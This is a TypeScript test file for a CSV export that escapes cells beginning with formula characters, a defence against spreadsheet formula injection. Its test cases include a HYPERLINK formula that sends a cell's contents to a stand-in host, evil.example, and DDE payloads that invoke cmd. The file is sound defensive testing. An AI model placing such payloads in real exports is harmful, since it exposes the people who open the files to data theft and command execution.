import Papa from 'papaparse';
import { toCsv, type CsvColumn } from './csv';

interface Row {
  id: number;
  holder: string;
  amount: string;
}

const COLUMNS: CsvColumn<Row>[] = [
  { header: 'id', value: (r) => r.id },
  { header: 'holder', value: (r) => r.holder },
  { header: 'amount', value: (r) => r.amount },
];

/** The cells a spreadsheet reads back from the export. */
function cells(holders: string[], amount = '12.50'): string[] {
  const parsed = Papa.parse<string[]>(toCsv(COLUMNS, holders.map((holder, i) => ({ id: i + 1, holder, amount }))), { skipEmptyLines: true });
  return parsed.data.slice(1).map((row) => row[1]);
}

describe('CSV export (every console list)', () => {
  it.each([
    ['a HYPERLINK a member gave as bank holder', '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'],
    ['a DDE command', "+cmd|' /C calc'!A0"],
    ['a sum behind a minus', '-2+3+cmd|\' /C calc\'!A0'],
    ['an at sign', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['a tab before the formula', '\t=1+1'],
    ['a carriage return before the formula', '\r=1+1'],
    ['a formula followed by a line break', '=1+1\nsecond line'],
  ])('escapes %s: the cell starts with a quote and reads as the text written', (_why, holder) => {
    const [cell] = cells([holder]);
    expect(cell).toBe(`'${holder}`);
  });

  it('leaves names, numbers and negative amounts as they are', () => {
    expect(cells(['Asha Rao', 'Müller, "Bank"', 'a=b', '2+2 shop'])).toEqual(['Asha Rao', 'Müller, "Bank"', 'a=b', '2+2 shop']);
    const parsed = Papa.parse<string[]>(toCsv(COLUMNS, [{ id: 7, holder: 'x', amount: '-12.50' }, { id: 8, holder: 'y', amount: '+3' }]), { skipEmptyLines: true });
    expect(parsed.data.slice(1)).toEqual([
      ['7', 'x', '-12.50'],
      ['8', 'y', '+3'],
    ]);
  });
});
